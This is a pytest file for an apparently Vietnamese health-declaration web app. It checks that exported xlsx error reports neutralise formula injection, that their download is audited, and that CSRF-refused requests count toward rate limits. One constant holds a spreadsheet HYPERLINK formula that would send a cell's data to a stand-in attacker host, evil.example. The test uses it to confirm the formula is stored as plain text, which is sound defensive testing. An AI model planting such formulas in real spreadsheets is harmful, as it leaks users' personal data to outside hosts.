"""Small holes of issue 12 item 9: the import error report's header cells, its download audited,
CSRF refusals counted by the route's rate limit. (The user name of a failed sign-in is in
test_accounts; another commune's declaration code answering 404 in test_followup and the
authorization matrix.)"""
import io

from openpyxl import load_workbook
from sqlalchemy import select

from kiemdich.extensions import db
from kiemdich.models import AuditEvent
from tests.conftest import csrf_token
from tests.factories_imports import HEADER, csv_bytes, person
from tests.test_imports_views import inline, latest_batch, mapping_form, supervisor, upload  # noqa: F401

EVIL = '=HYPERLINK("http://evil.example/?d="&B5,"Bấm vào đây")'


def test_error_report_headers_are_not_live_formulas_and_the_download_is_audited(client, supervisor):  # noqa: F811
    rows = [person(1) + ["x"], person(2, name="") + ["=1+1"]]  # the second is invalid: no name
    upload(client, csv_bytes(rows, header=HEADER + [EVIL]), name="danh-sach.csv")
    batch = latest_batch()
    assert client.post(f"/nhap/{batch.id}/cot", data=mapping_form(client, batch)).status_code == 302
    report = client.get(f"/nhap/{latest_batch().id}/bao-cao-loi.xlsx")
    assert report.status_code == 200
    sheet = load_workbook(io.BytesIO(report.data)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []  # no formula anywhere
    lines = list(sheet.iter_rows(values_only=True))
    at = next(i for i, row in enumerate(lines) if row[0] == "Dòng")
    assert "'" + EVIL in lines[at]  # shown as text, as data cells are
    assert "'=1+1" in [c.value for c in cells]
    event = db.session.scalar(select(AuditEvent).where(AuditEvent.action == "import.error_report"))
    assert event is not None and event.username == "super1" and event.object_id == str(batch.id)
    assert event.detail == f"rows={len(lines) - at - 1}"  # how many rows (IDs, phones) it carried


def test_posts_refused_for_a_missing_csrf_token_count_against_the_routes_limit(app, client):
    """/tra-cuu allows 10 lookups a minute per device: ten POSTs without a token use them up, so
    the eleventh, even with a valid token, is refused with 429."""
    app.config["KIEMDICH_LOOKUP_RATE"] = "10 per minute"
    ip = {"REMOTE_ADDR": "198.51.100.77"}
    client.get("/tra-cuu", environ_base=ip)  # the phone's device cookie: public limits count per device
    for _ in range(10):
        response = client.post("/tra-cuu", data={"code": "ZZZZZZZZ", "birth_year": "1990"}, environ_base=ip)
        assert response.status_code == 400
    token = csrf_token(client, "/tra-cuu")
    response = client.post("/tra-cuu", data={"code": "ZZZZZZZZ", "birth_year": "1990", "csrf_token": token},
                           environ_base=ip)
    assert response.status_code == 429
    assert "Vui lòng đợi một lát" in response.get_data(as_text=True)
    # Another address is not affected.
    response = client.post("/tra-cuu", data={"code": "ZZZZZZZZ", "birth_year": "1990", "csrf_token": token},
                           environ_base={"REMOTE_ADDR": "198.51.100.78"})
    assert response.status_code == 422


def test_csrf_refusals_are_counted_on_the_declaration_form_and_the_upload(app, client, auth, users):
    """The same for the public declaration form (its own per-address limit) and for a staff route
    (the import upload, 30 an hour per address)."""
    app.config["KIEMDICH_DECLARATION_RATE"] = "3 per minute"
    ip = {"REMOTE_ADDR": "198.51.100.79"}
    client.get("/khai-bao", environ_base=ip)  # the phone's device cookie: public limits count per device
    assert [client.post("/khai-bao", data={}, environ_base=ip).status_code for _ in range(4)] == [400] * 3 + [429]
    auth.login("super1")
    answers = [client.post("/nhap/", data={}, environ_base=ip).status_code for _ in range(31)]
    assert answers == [400] * 30 + [429]
